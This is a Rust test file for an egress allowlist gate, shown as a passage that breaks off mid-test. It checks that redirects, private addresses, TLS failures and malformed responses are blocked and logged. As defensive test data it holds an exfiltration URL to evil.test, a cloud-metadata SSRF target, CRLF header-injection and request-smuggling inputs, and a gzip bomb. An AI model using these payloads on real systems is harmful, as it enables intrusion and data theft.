//! The egress exit against real servers on 127.0.0.1: what is allowed is fetched, and every
//! block happens before traffic leaves and is recorded as one trace event.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::net::IpAddr;
use std::sync::Arc;
use std::time::Duration;

use serde_json::Value;
use support::{HttpServer, Route, TlsIdentity};
use toolgate_core::ErrorCode;
use toolgate_core::trace::MemoryTrace;
use toolgate_egress::{
    AddressClass, AllowEntry, BlockReason, Egress, EgressConfig, EgressError, NonCanonical,
    StaticResolver, SystemResolver,
};

fn ip(text: &str) -> IpAddr {
    text.parse().unwrap_or_else(|e| panic!("{text}: {e}"))
}

/// `host` over plain http on `port`, local addresses allowed (test servers only).
fn local(host: &str, port: u16) -> AllowEntry {
    AllowEntry {
        host: host.into(),
        schemes: vec!["http".into()],
        ports: Some(vec![port]),
        allow_private: true,
    }
}

fn resolver() -> StaticResolver {
    let lo = [ip("127.0.0.1")];
    StaticResolver::new()
        .with("allowed.test", &lo)
        .with("second.test", &lo)
        .with("evil.test", &lo)
        .with("intranet.test", &[ip("10.0.0.5")])
        .with("mixed.test", &[ip("93.184.215.14"), ip("10.0.0.5")])
        .with("loopback.test", &lo)
        .with("secure.test", &lo)
        .with("plain.test", &lo)
}

struct Harness {
    egress: Egress,
    trace: Arc<MemoryTrace>,
    resolver: Arc<StaticResolver>,
}

fn harness(allow: Vec<AllowEntry>) -> Harness {
    harness_with(EgressConfig {
        allow,
        ..EgressConfig::default()
    })
}

fn harness_with(config: EgressConfig) -> Harness {
    let trace = Arc::new(MemoryTrace::default());
    let resolver = Arc::new(resolver());
    let egress = Egress::new(config, resolver.clone(), trace.clone())
        .unwrap_or_else(|e| panic!("config: {e}"));
    Harness {
        egress,
        trace,
        resolver,
    }
}

impl Harness {
    /// The one egress event the last call wrote (there must be exactly one in all).
    fn event(&self) -> Value {
        let events = self.trace.of_kind("egress");
        assert_eq!(events.len(), 1, "one event per call: {events:#?}");
        events[0].clone()
    }

    fn blocked(&self, url: &str) -> BlockReason {
        match block_on(self.egress.get(url)) {
            Err(EgressError::Blocked(reason)) => reason,
            other => panic!("{url} was not blocked: {other:?}"),
        }
    }
}

fn block_on<F: std::future::Future>(future: F) -> F::Output {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap_or_else(|e| panic!("runtime: {e}"))
        .block_on(future)
}

fn strings(value: &Value) -> Vec<String> {
    value
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|v| v.as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn allowlisted_page_is_fetched_and_recorded() {
    let server = HttpServer::start(vec![("/page", Route::html("<h1>Budget</h1>"))]);
    let port = server.port();
    let h = harness(vec![local("127.0.0.1", port), local("allowed.test", port)]);

    let url = format!("http://127.0.0.1:{port}/page");
    let page = block_on(h.egress.get(&url)).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(page.status, 200);
    assert_eq!(page.body, "<h1>Budget</h1>");
    assert_eq!(page.content_type, "text/html");
    assert_eq!(page.bytes, 15);
    assert_eq!(page.hops, vec![url.clone()]);
    let event = h.event();
    assert_eq!(event["decision"], "allowed");
    assert_eq!(event["rule"], "allow[0]:127.0.0.1");
    assert_eq!(event["status"], 200);
    assert_eq!(event["bytes"], 15);
    assert_eq!(strings(&event["hops"]), vec![url]);

    // By name: resolved by the exit's resolver, connected to the checked address.
    let by_name = format!("http://Allowed.TEST.:{port}/page");
    let page = block_on(h.egress.get(&by_name)).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(page.final_url, format!("http://allowed.test:{port}/page"));
    assert_eq!(h.resolver.asked(), vec!["allowed.test".to_string()]);
    let seen = server.seen();
    assert_eq!(seen.len(), 2);
    assert_eq!(seen[1].host, format!("allowed.test:{port}"));
    // Nothing that could carry credentials or history is sent.
    for header in &seen[1].headers {
        let name = header
            .split(':')
            .next()
            .unwrap_or_default()
            .to_ascii_lowercase();
        assert!(
            !["authorization", "cookie", "referer", "proxy-authorization"].contains(&name.as_str()),
            "{header}"
        );
    }
}

#[test]
fn idn_host_is_matched_resolved_and_sent_in_punycode() {
    let server = HttpServer::start(vec![("/", Route::html("books"))]);
    let port = server.port();
    let trace = Arc::new(MemoryTrace::default());
    let resolver = Arc::new(StaticResolver::new().with("xn--bcher-kva.test", &[ip("127.0.0.1")]));
    let egress = Egress::new(
        EgressConfig {
            allow: vec![local("Bücher.test", port)],
            ..EgressConfig::default()
        },
        resolver.clone(),
        trace.clone(),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let page = block_on(egress.get(&format!("http://BÜCHER.test:{port}/")))
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(page.final_url, format!("http://xn--bcher-kva.test:{port}/"));
    assert_eq!(resolver.asked(), vec!["xn--bcher-kva.test".to_string()]);
    assert_eq!(server.seen()[0].host, format!("xn--bcher-kva.test:{port}"));
    assert_eq!(trace.of_kind("egress")[0]["host"], "xn--bcher-kva.test");
}

#[test]
fn unlisted_host_is_blocked_before_resolution_and_recorded() {
    let server = HttpServer::start(vec![("/", Route::html("secret"))]);
    let port = server.port();
    let h = harness(vec![local("allowed.test", port)]);

    let reason = h.blocked(&format!("http://evil.test:{port}/"));
    assert_eq!(
        reason,
        BlockReason::UnlistedHost {
            host: "evil.test".into()
        }
    );
    let event = h.event();
    assert_eq!(event["decision"], "blocked");
    assert_eq!(event["rule"], "unlisted_host");
    assert_eq!(event["host"], "evil.test");
    assert!(server.seen().is_empty());
    assert!(h.resolver.asked().is_empty());
    assert_eq!(h.egress.requests_sent(), 0);
}

#[test]
fn redirect_to_unlisted_host_is_blocked() {
    let server = HttpServer::start(vec![
        ("/start", Route::redirect("http://evil.test:{port}/x")),
        ("/x", Route::html("should never be served")),
    ]);
    let port = server.port();
    let h = harness(vec![local("allowed.test", port)]);

    let reason = h.blocked(&format!("http://allowed.test:{port}/start"));
    assert_eq!(
        reason,
        BlockReason::UnlistedHost {
            host: "evil.test".into()
        }
    );
    let event = h.event();
    assert_eq!(event["decision"], "blocked");
    assert_eq!(event["rule"], "unlisted_host");
    assert_eq!(event["host"], "evil.test");
    assert_eq!(
        strings(&event["hops"]),
        vec![
            format!("http://allowed.test:{port}/start"),
            format!("http://evil.test:{port}/x"),
        ]
    );
    assert_eq!(
        strings(&event["hop_rules"]),
        vec![format!("allow[0]:allowed.test")]
    );
    assert_eq!(server.targets(), vec!["/start"]);
    assert_eq!(h.egress.requests_sent(), 1);
}

#[test]
fn two_hop_redirect_chain_ending_at_unlisted_host_is_blocked() {
    let server = HttpServer::start(vec![
        ("/r1", Route::redirect("http://second.test:{port}/r2")),
        ("/r2", Route::redirect("//evil.test:{port}/x?from=second")),
        ("/x", Route::html("should never be served")),
    ]);
    let port = server.port();
    let h = harness(vec![
        local("allowed.test", port),
        local("second.test", port),
    ]);

    let reason = h.blocked(&format!("http://allowed.test:{port}/r1"));
    assert_eq!(
        reason,
        BlockReason::UnlistedHost {
            host: "evil.test".into()
        }
    );
    let event = h.event();
    assert_eq!(event["rule"], "unlisted_host");
    assert_eq!(
        strings(&event["hops"]),
        vec![
            format!("http://allowed.test:{port}/r1"),
            format!("http://second.test:{port}/r2"),
            format!("http://evil.test:{port}/x?from=second"),
        ]
    );
    assert_eq!(
        strings(&event["hop_rules"]),
        vec!["allow[0]:allowed.test", "allow[1]:second.test"]
    );
    assert_eq!(server.targets(), vec!["/r1", "/r2"]);
}

#[test]
fn query_carrying_note_text_to_unlisted_host_is_blocked() {
    let server = HttpServer::start(vec![("/collect", Route::html("thanks"))]);
    let port = server.port();
    let h = harness(vec![local("allowed.test", port)]);
    let note = "Budget%20settled%20at%20%2440k%20with%20the%20design%20team";
    let url = format!("http://evil.test:{port}/collect?note={note}");

    let error = block_on(h.egress.get(&url)).err();
    assert!(
        matches!(
            error,
            Some(EgressError::Blocked(BlockReason::UnlistedHost { .. }))
        ),
        "{error:?}"
    );
    assert!(server.seen().is_empty(), "the note text must not leave");
    let event = h.event();
    assert_eq!(event["decision"], "blocked");
    assert_eq!(event["rule"], "unlisted_host");
    // The trace keeps the evidence; the model-facing error does not echo it.
    assert_eq!(event["url"], url.as_str());
    let tool = error
        .map(|e| e.to_tool_error())
        .unwrap_or_else(|| panic!("no error"));
    assert_eq!(tool.code, ErrorCode::Forbidden);
    let shown = serde_json::to_string(&tool).unwrap_or_default();
    assert!(!shown.contains("Budget"), "{shown}");
}

#[test]
fn ip_literal_not_listed_is_blocked_and_numeric_spellings_never_match() {
    let server = HttpServer::start(vec![("/", Route::html("hi"))]);
    let port = server.port();
    let h = harness(vec![local("allowed.test", port)]);
    assert_eq!(
        h.blocked(&format!("http://127.0.0.1:{port}/")),
        BlockReason::IpLiteralNotListed {
            ip: ip("127.0.0.1")
        }
    );
    assert_eq!(h.event()["rule"], "ip_literal_not_listed");

    // Even with 127.0.0.1 listed, other spellings of it are refused outright.
    let listed = harness(vec![local("127.0.0.1", port)]);
    for host in ["2130706433", "0177.0.0.1", "0x7f.1", "127.1", "0x7f000001"] {
        let reason = listed.blocked(&format!("http://{host}:{port}/"));
        assert_eq!(
            reason,
            BlockReason::NonCanonicalHost {
                host: host.into(),
                why: NonCanonical::NumericForm
            },
            "{host}"
        );
    }
    let events = listed.trace.of_kind("egress");
    assert_eq!(events.len(), 5);
    assert!(events.iter().all(|e| e["rule"] == "non_canonical_host"));
    assert_eq!(events[2]["host"], "0x7f.1");
    assert!(server.seen().is_empty());
}

#[test]
fn name_resolving_to_private_address_is_blocked_before_any_connection() {
    let h = harness(vec![
        AllowEntry {
            host: "intranet.test".into(),
            schemes: vec!["http".into()],
            ports: None,
            allow_private: false,
        },
        AllowEntry::https("mixed.test"),
    ]);
    let reason = h.blocked("http://intranet.test/wiki");
    assert_eq!(
        reason,
        BlockReason::ForbiddenAddress {
            addr: ip("10.0.0.5"),
            class: AddressClass::Private
        }
    );
    assert_eq!(h.egress.requests_sent(), 0, "no traffic may go to 10.x");
    assert_eq!(h.resolver.asked(), vec!["intranet.test".to_string()]);
    let event = h.event();
    assert_eq!(event["decision"], "blocked");
    assert_eq!(event["rule"], "forbidden_address");
    assert_eq!(strings(&event["addresses"]), vec!["10.0.0.5"]);
    assert_eq!(event["status"], Value::Null);

    // One private address among public ones blocks the whole answer.
    let reason = h.blocked("https://mixed.test/");
    assert!(
        matches!(
            reason,
            BlockReason::ForbiddenAddress {
                class: AddressClass::Private,
                ..
            }
        ),
        "{reason:?}"
    );
    assert_eq!(h.egress.requests_sent(), 0);
}

#[test]
fn loopback_name_without_allow_private_is_blocked() {
    let server = HttpServer::start(vec![("/", Route::html("local"))]);
    let port = server.port();
    let h = harness(vec![AllowEntry {
        allow_private: false,
        ..local("loopback.test", port)
    }]);
    let reason = h.blocked(&format!("http://loopback.test:{port}/"));
    assert_eq!(
        reason,
        BlockReason::ForbiddenAddress {
            addr: ip("127.0.0.1"),
            class: AddressClass::Loopback
        }
    );
    assert!(server.seen().is_empty());
}

#[test]
fn system_resolver_answers_are_checked_too() {
    let trace = Arc::new(MemoryTrace::default());
    let egress = Egress::new(
        EgressConfig {
            allow: vec![AllowEntry {
                host: "localhost".into(),
                schemes: vec!["http".into()],
                ports: None,
                allow_private: false,
            }],
            ..EgressConfig::default()
        },
        Arc::new(SystemResolver),
        trace.clone(),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let result = block_on(egress.get("http://localhost/"));
    assert!(
        matches!(
            result,
            Err(EgressError::Blocked(BlockReason::ForbiddenAddress { .. }))
                | Err(EgressError::Resolve { .. })
        ),
        "{result:?}"
    );
    assert_eq!(egress.requests_sent(), 0);
    assert_eq!(trace.of_kind("egress").len(), 1);
}

#[test]
fn userinfo_url_is_blocked_and_credentials_stay_out_of_the_trace() {
    let server = HttpServer::start(vec![("/", Route::html("hi"))]);
    let port = server.port();
    let h = harness(vec![local("allowed.test", port), local("evil.test", port)]);
    let reason = h.blocked(&format!("http://allowed.test@evil.test:{port}/"));
    assert_eq!(reason, BlockReason::UserInfo);
    let event = h.event();
    assert_eq!(event["rule"], "userinfo");
    assert_eq!(event["host"], "evil.test");
    assert_eq!(event["url"], format!("http://[redacted]@evil.test:{port}/"));

    assert_eq!(
        h.blocked(&format!("http://user:hunter2@allowed.test:{port}/")),
        BlockReason::UserInfo
    );
    let all = serde_json::to_string(&h.trace.events()).unwrap_or_default();
    assert!(!all.contains("hunter2"), "{all}");
    assert!(server.seen().is_empty());
}

#[test]
fn oversize_body_is_an_error_not_a_silent_cut() {
    let big = "x".repeat(50_000);
    let mut streamed = Route::html(&big);
    streamed.omit_length = true;
    let server = HttpServer::start(vec![
        ("/declared", Route::html(&big)),
        ("/streamed", streamed),
        ("/small", Route::html("fits")),
    ]);
    let port = server.port();
    let h = harness_with(EgressConfig {
        allow: vec![local("allowed.test", port)],
        max_bytes: 10_000,
        ..EgressConfig::default()
    });
    for path in ["/declared", "/streamed"] {
        let reason = h.blocked(&format!("http://allowed.test:{port}{path}"));
        assert_eq!(reason, BlockReason::TooLarge { max: 10_000 }, "{path}");
    }
    let events = h.trace.of_kind("egress");
    assert_eq!(events.len(), 2);
    for event in &events {
        assert_eq!(event["decision"], "blocked");
        assert_eq!(event["rule"], "too_large");
        assert_eq!(event["status"], 200);
    }
    // The streamed body was cut off at the first chunk past the cap, not read whole.
    assert!(events[1]["bytes"].as_u64().unwrap_or(0) > 10_000);
    assert!(events[1]["bytes"].as_u64().unwrap_or(u64::MAX) < 50_000);
    let page = block_on(h.egress.get(&format!("http://allowed.test:{port}/small")));
    assert_eq!(page.map(|p| p.body).ok().as_deref(), Some("fits"));
}

#[test]
fn disallowed_content_type_is_blocked() {
    let mut untyped = Route::html("no type");
    untyped.headers.clear();
    let server = HttpServer::start(vec![
        ("/bin", Route::ok("application/octet-stream", "\x7fELF")),
        ("/svg", Route::ok("image/svg+xml", "<svg/>")),
        ("/untyped", untyped),
        ("/json", Route::ok("Application/JSON; charset=utf-8", "{}")),
    ]);
    let port = server.port();
    let h = harness(vec![local("allowed.test", port)]);
    let cases = [
        ("/bin", Some("application/octet-stream")),
        ("/svg", Some("image/svg+xml")),
        ("/untyped", None),
    ];
    for (path, content_type) in cases {
        let reason = h.blocked(&format!("http://allowed.test:{port}{path}"));
        assert_eq!(
            reason,
            BlockReason::ContentTypeNotAllowed {
                content_type: content_type.map(String::from)
            },
            "{path}"
        );
    }
    let events = h.trace.of_kind("egress");
    assert!(
        events
            .iter()
            .all(|e| e["rule"] == "content_type_not_allowed")
    );
    let page = block_on(h.egress.get(&format!("http://allowed.test:{port}/json")))
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(page.content_type, "application/json");
}

#[test]
fn redirect_loops_stop_at_the_hop_cap() {
    let server = HttpServer::start(vec![("/loop", Route::redirect("/loop"))]);
    let port = server.port();
    let h = harness_with(EgressConfig {
        allow: vec![local("allowed.test", port)],
        max_redirects: 2,
        ..EgressConfig::default()
    });
    let reason = h.blocked(&format!("http://allowed.test:{port}/loop"));
    assert_eq!(reason, BlockReason::TooManyRedirects { max: 2 });
    let event = h.event();
    assert_eq!(event["rule"], "too_many_redirects");
    assert_eq!(strings(&event["hops"]).len(), 4);
    assert_eq!(server.targets().len(), 3);
}

#[test]
fn slow_server_hits_the_time_cap() {
    let mut slow = Route::html("late");
    slow.delay = Duration::from_millis(2500);
    let server = HttpServer::start(vec![("/slow", slow)]);
    let port = server.port();
    let h = harness_with(EgressConfig {
        allow: vec![local("allowed.test", port)],
        timeout_secs: 1,
        ..EgressConfig::default()
    });
    let result = block_on(h.egress.get(&format!("http://allowed.test:{port}/slow")));
    let error = result.err().unwrap_or_else(|| panic!("not timed out"));
    assert_eq!(
        error,
        EgressError::Timeout {
            after: Duration::from_secs(1)
        }
    );
    assert_eq!(error.to_tool_error().code, ErrorCode::DeadlineExceeded);
    let event = h.event();
    assert_eq!(event["decision"], "blocked");
    assert_eq!(event["rule"], "timeout");
}

#[test]
fn error_statuses_map_to_core_codes() {
    let server = HttpServer::start(vec![
        ("/gone", Route::status(404)),
        ("/down", Route::status(503)),
    ]);
    let port = server.port();
    let h = harness(vec![local("allowed.test", port)]);
    let cases = [
        ("/gone", ErrorCode::NotFound),
        ("/down", ErrorCode::TransientDependency),
    ];
    for (path, code) in cases {
        let error = block_on(h.egress.get(&format!("http://allowed.test:{port}{path}")))
            .err()
            .unwrap_or_else(|| panic!("{path} succeeded"));
        assert_eq!(error.to_tool_error().code, code, "{path}");
    }
    let events = h.trace.of_kind("egress");
    assert_eq!(events[1]["decision"], "allowed");
    assert_eq!(events[1]["status"], 503);
    assert_eq!(events[1]["error"]["kind"], "http_status");
}

#[test]
fn default_config_allows_nothing() {
    let h = harness_with(EgressConfig::default());
    for url in [
        "https://example.org/",
        "http://127.0.0.1/",
        "http://169.254.169.254/latest/meta-data/",
        "http://[fd00:ec2::254]/",
    ] {
        let reason = h.blocked(url);
        assert!(
            matches!(
                reason,
                BlockReason::UnlistedHost { .. } | BlockReason::IpLiteralNotListed { .. }
            ),
            "{url}: {reason:?}"
        );
    }
    assert!(h.resolver.asked().is_empty());
    assert_eq!(h.trace.of_kind("egress").len(), 4);
}

fn tls_identity() -> TlsIdentity {
    TlsIdentity {
        cert_der: include_bytes!("data/leaf.der").to_vec(),
        key_pkcs8_der: include_bytes!("data/leaf.key.der").to_vec(),
    }
}

#[test]
fn https_page_is_fetched_over_tls_to_the_checked_address() {
    let server = HttpServer::start_tls(vec![("/doc", Route::html("over tls"))], tls_identity());
    let port = server.port();
    let h = harness(vec![AllowEntry {
        host: "secure.test".into(),
        schemes: vec!["https".into()],
        ports: Some(vec![port]),
        allow_private: true,
    }]);
    let egress = h
        .egress
        .with_root_certificate(include_bytes!("data/ca.der"))
        .unwrap_or_else(|e| panic!("{e}"));
    let page = block_on(egress.get(&format!("https://secure.test:{port}/doc")))
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(page.body, "over tls");
}

#[test]
fn https_to_http_downgrade_is_blocked() {
    let plain = HttpServer::start(vec![("/page", Route::html("plain"))]);
    let plain_port = plain.port();
    let secure = HttpServer::start_tls(
        vec![(
            "/go",
            Route::redirect(&format!("http://plain.test:{plain_port}/page")),
        )],
        tls_identity(),
    );
    let port = secure.port();
    let h = harness(vec![
        AllowEntry {
            host: "secure.test".into(),
            schemes: vec!["https".into()],
            ports: Some(vec![port]),
            allow_private: true,
        },
        // Even a host allowed over http may not be reached by a downgrade.
        local("plain.test", plain_port),
    ]);
    let egress = h
        .egress
        .with_root_certificate(include_bytes!("data/ca.der"))
        .unwrap_or_else(|e| panic!("{e}"));
    let result = block_on(egress.get(&format!("https://secure.test:{port}/go")));
    assert_eq!(
        result,
        Err(EgressError::Blocked(BlockReason::Downgrade {
            from_scheme: "https".into(),
            to_scheme: "http".into()
        }))
    );
    let events = h.trace.of_kind("egress");
    assert_eq!(events.len(), 1);
    assert_eq!(events[0]["decision"], "blocked");
    assert_eq!(events[0]["rule"], "downgrade");
    assert_eq!(
        strings(&events[0]["hops"]),
        vec![
            format!("https://secure.test:{port}/go"),
            format!("http://plain.test:{plain_port}/page"),
        ]
    );
    assert_eq!(secure.targets(), vec!["/go"]);
    assert!(plain.seen().is_empty());
}

#[test]
fn downgrade_check_is_pure_and_covers_scheme_relative_locations() {
    let from = url::Url::parse("https://a.example/x").unwrap_or_else(|e| panic!("{e}"));
    let cases = [
        ("http://a.example/y", true),
        ("HTTP://b.example/", true),
        ("https://b.example/", false),
        ("//b.example/", false),
        ("/y", false),
    ];
    for (location, downgrade) in cases {
        let got = toolgate_egress::next_hop(&from, location);
        assert_eq!(
            matches!(got, Err(BlockReason::Downgrade { .. })),
            downgrade,
            "{location}: {got:?}"
        );
    }
}

// ---- Hostile servers and hostile input: TLS, encodings, framing, control characters. ----

/// A `secure.test` https entry for `port`.
fn secure(port: u16) -> AllowEntry {
    AllowEntry {
        host: "secure.test".into(),
        schemes: vec!["https".into()],
        ports: Some(vec![port]),
        allow_private: true,
    }
}

/// What a test server presents, made now: never downloaded, never kept.
enum Presented {
    /// Signed by the test CA, for `secure.test`, valid today: the control.
    Valid,
    /// Signed by nobody the exit trusts.
    SelfSigned,
    /// Signed by the test CA, for another name.
    WrongName,
    /// Signed by the test CA, for `secure.test`, expired in 2021.
    Expired,
    /// Signed by the test CA, for `secure.test`, valid only from 2099.
    NotYetValid,
}

/// The test CA's certificate (DER) and the server identity for `presented`.
fn make_certificates(presented: &Presented) -> (Vec<u8>, TlsIdentity) {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair, date_time_ymd};
    let ca_key = KeyPair::generate().unwrap();
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params
        .distinguished_name
        .push(rcgen::DnType::CommonName, "toolgate generated test CA");
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let ca_der = ca_params.self_signed(&ca_key).unwrap().der().to_vec();
    let issuer = Issuer::from_params(&ca_params, &ca_key);

    let leaf_key = KeyPair::generate().unwrap();
    let name = match presented {
        Presented::WrongName => "other.test",
        _ => "secure.test",
    };
    let mut params = CertificateParams::new(vec![name.to_string()]).unwrap();
    params
        .distinguished_name
        .push(rcgen::DnType::CommonName, name);
    match presented {
        Presented::Expired => {
            params.not_before = date_time_ymd(2020, 1, 1);
            params.not_after = date_time_ymd(2021, 1, 1);
        }
        Presented::NotYetValid => {
            params.not_before = date_time_ymd(2099, 1, 1);
            params.not_after = date_time_ymd(2100, 1, 1);
        }
        Presented::Valid | Presented::SelfSigned | Presented::WrongName => {}
    }
    let leaf = match presented {
        Presented::SelfSigned => params.self_signed(&leaf_key).unwrap(),
        _ => params.signed_by(&leaf_key, &issuer).unwrap(),
    };
    (
        ca_der,
        TlsIdentity {
            cert_der: leaf.der().to_vec(),
            key_pkcs8_der: leaf_key.serialize_der(),
        },
    )
}

#[test]
fn tls_certificate_failures_are_blocked_with_the_rule() {
    let cases = [
        (Presented::SelfSigned, "self-signed"),
        (Presented::WrongName, "wrong name"),
        (Presented::Expired, "expired"),
        (Presented::NotYetValid, "not yet valid"),
    ];
    for (presented, label) in cases {
        let (ca_der, identity) = make_certificates(&presented);
        let server = HttpServer::start_tls(vec![("/doc", Route::html("secret"))], identity);
        let port = server.port();
        let h = harness(vec![secure(port)]);
        let egress = h.egress.with_root_certificate(&ca_der).unwrap();
        let result = block_on(egress.get(&format!("https://secure.test:{port}/doc")));
        match &result {
            Err(EgressError::Blocked(BlockReason::TlsCertificate { .. })) => {}
            other => panic!("{label}: not blocked by the certificate rule: {other:?}"),
        }
        let error = result.unwrap_err();
        assert_eq!(error.to_tool_error().code, ErrorCode::Forbidden, "{label}");
        let events = h.trace.of_kind("egress");
        assert_eq!(events.len(), 1, "{label}");
        assert_eq!(events[0]["decision"], "blocked", "{label}");
        assert_eq!(events[0]["rule"], "tls_certificate", "{label}");
        // The handshake failed: no request reached the server.
        assert!(server.seen().is_empty(), "{label}: {:?}", server.seen());
    }
    // The control: the same CA-made certificate, valid, is fetched.
    let (ca_der, identity) = make_certificates(&Presented::Valid);
    let server = HttpServer::start_tls(vec![("/doc", Route::html("fine"))], identity);
    let port = server.port();
    let h = harness(vec![secure(port)]);
    let egress = h.egress.with_root_certificate(&ca_der).unwrap();
    let page = block_on(egress.get(&format!("https://secure.test:{port}/doc"))).unwrap();
    assert_eq!(page.body, "fine");
}

/// `bytes` of zeros, gzipped: a few kilobytes on the wire.
fn gzip_bomb(bytes: usize) -> Vec<u8> {
    use std::io::Write;
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let block = vec![0_u8; 1 << 20];
    for _ in 0..bytes / block.len() {
        encoder.write_all(&block).unwrap();
    }
    encoder.finish().unwrap()
}

#[test]
fn compressed_answers_are_refused_and_no_encoding_is_asked_for() {
    // 64 MiB of zeros in about 64 KiB: a bomb that would pass the byte cap on the wire.
    let bomb = gzip_bomb(64 << 20);
    assert!(bomb.len() < 70_000, "{}", bomb.len());
    let encoded = |encoding: &str, body: Vec<u8>| Route {
        status: 200,
        headers: vec![
            ("Content-Type".into(), "text/html".into()),
            ("Content-Encoding".into(), encoding.into()),
        ],
        body,
        omit_length: false,
        delay: Duration::ZERO,
    };
    let server = HttpServer::start(vec![
        ("/bomb", encoded("gzip", bomb.clone())),
        ("/upper", encoded("GZIP", bomb.clone())),
        ("/x-gzip", encoded("x-gzip", bomb.clone())),
        ("/br", encoded("br", vec![0x1b; 32])),
        ("/deflate", encoded("deflate", vec![0x78; 32])),
        ("/zstd", encoded("zstd", vec![0x28; 32])),
        ("/stacked", encoded("identity, gzip", bomb)),
        ("/identity", encoded("identity", b"plain".to_vec())),
    ]);
    let port = server.port();
    let h = harness(vec![local("allowed.test", port)]);
    for path in [
        "/bomb", "/upper", "/x-gzip", "/br", "/deflate", "/zstd", "/stacked",
    ] {
        let url = format!("http://allowed.test:{port}{path}");
        match block_on(h.egress.get(&url)) {
            Err(EgressError::Blocked(BlockReason::ContentEncodingNotAllowed { .. })) => {}
            Ok(page) => panic!("{path}: fetched {} encoded bytes", page.bytes),
            Err(other) => panic!("{path}: {other:?}"),
        }
        let events = h.trace.of_kind("egress");
        let event = events.last().unwrap();
        assert_eq!(event["rule"], "content_encoding_not_allowed", "{path}");
        // Refused on the header: not one byte of the body was read.
        assert_eq!(event["bytes"], 0, "{path}");
    }
    // `identity` is no encoding: fetched.
    let page = block_on(
        h.egress
            .get(&format!("http://allowed.test:{port}/identity")),
    )
    .unwrap();
    assert_eq!(page.body, "plain");
    // Every request asked for the body as it is.
    for seen in server.seen() {
        let asked: Vec<&String> = seen
            .headers
            .iter()
            .filter(|h| h.to_ascii_lowercase().starts_with("accept-encoding:"))
            .collect();
        assert_eq!(asked.len(), 1, "{:?}", seen.headers);
        assert_eq!(asked[0].to_ascii_lowercase(), "accept-encoding: identity");
    }
}

#[test]
fn ambiguous_response_framing_is_refused() {
    let framed = |headers: &[(&str, &str)], body: &str| Route {
        status: 200,
        headers: std::iter::once(("Content-Type".to_string(), "text/html".to_string()))
            .chain(headers.iter().map(|(n, v)| (n.to_string(), v.to_string())))
            .collect(),
        body: body.as_bytes().to_vec(),
        omit_length: true,
        delay: Duration::ZERO,
    };
    let chunked = "5\r\nhello\r\n0\r\n\r\n";
    let cases = [
        (
            "/cl-te",
            framed(
                &[("Content-Length", "5"), ("Transfer-Encoding", "chunked")],
                chunked,
            ),
        ),
        (
            "/te-cl",
            framed(
                &[("Transfer-Encoding", "chunked"), ("Content-Length", "30")],
                chunked,
            ),
        ),
        (
            "/two-lengths",
            framed(
                &[("Content-Length", "5"), ("Content-Length", "6")],
                "hello!",
            ),
        ),
        (
            "/two-lengths-one-line",
            framed(&[("Content-Length", "5, 6")], "hello!"),
        ),
        (
            "/te-not-chunked",
            framed(&[("Transfer-Encoding", "identity")], "hello"),
        ),
        (
            "/te-gzip-chunked",
            framed(&[("Transfer-Encoding", "gzip, chunked")], chunked),
        ),
        (
            "/te-twice",
            framed(
                &[
                    ("Transfer-Encoding", "chunked"),
                    ("Transfer-Encoding", "chunked"),
                ],
                chunked,
            ),
        ),
    ];
    let paths: Vec<&str> = cases.iter().map(|(p, _)| *p).collect();
    let server = HttpServer::start(cases.into_iter().collect());
    let port = server.port();
    let h = harness(vec![local("allowed.test", port)]);
    for path in paths {
        let url = format!("http://allowed.test:{port}{path}");
        let result = block_on(h.egress.get(&url)).map(|page| page.body);
        let events = h.trace.of_kind("egress");
        let event = events.last().unwrap();
        assert!(
            matches!(
                result,
                Err(EgressError::Blocked(BlockReason::AmbiguousFraming { .. }))
            ),
            "{path}: {result:?}"
        );
        assert_eq!(event["decision"], "blocked", "{path}");
        assert_eq!(event["rule"], "ambiguous_framing", "{path}");
    }
}

#[test]
fn control_characters_never_reach_a_request_line_or_header() {
    let server = HttpServer::start(vec![("/a", Route::html("a"))]);
    let port = server.port();
    let h = harness(vec![local("allowed.test", port)]);
    let base = format!("http://allowed.test:{port}");
    let urls = [
        format!("{base}/a\r\nX-Injected: 1"),
        format!("{base}/a HTTP/1.1\r\nHost: evil.test\r\n\r\nGET /b"),
        format!("{base}/a?q=1\r\nSet-Cookie: x=y"),
        format!("{base}/a?q=\n"),
        format!("{base}/a\r"),
        format!("{base}/a\0"),
        format!("{base}/a?q=\0x"),
        format!("{base}/a#\r\nX: y"),
        format!("{base}/a\u{85}b"),
        format!("{base}/a\tb"),
        format!("{base}/a\u{7f}"),
    ];
    for (i, url) in urls.iter().enumerate() {
        match h.blocked(url) {
            BlockReason::InvalidUrl { .. } => {}
            other => panic!("{url:?}: {other:?}"),
        }
        let events = h.trace.of_kind("egress");
        assert_eq!(events.len(), i + 1, "one line per call");
        assert_eq!(events[i]["rule"], "invalid_url", "{url:?}");
    }
    assert!(server.seen().is_empty(), "{:?}", server.seen());
    assert!(h.resolver.asked().is_empty());
    assert_eq!(h.egress.requests_sent(), 0);

    // Encoded line breaks are data: they leave percent-encoded, in the target only.
    let page = block_on(h.egress.get(&format!("{base}/a?q=%0D%0AX-Injected:%201"))).unwrap();
    assert_eq!(page.body, "a");
    let seen = server.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].target, "/a?q=%0D%0AX-Injected:%201");
    assert!(
        seen[0]
            .headers
            .iter()
            .all(|h| !h.to_ascii_lowercase().starts_with("x-injected")),
        "{:?}",
        seen[0].headers
    );
}

#[test]
fn session_clients_ask_for_no_encoding_and_refuse_bad_certificates() {
    // Plain: the session client's requests carry `Accept-Encoding: identity`.
    let server = HttpServer::start(vec![("/mcp", Route::ok("application/json", "{}"))]);
    let port = server.port();
    let h = harness(vec![local("allowed.test", port)]);
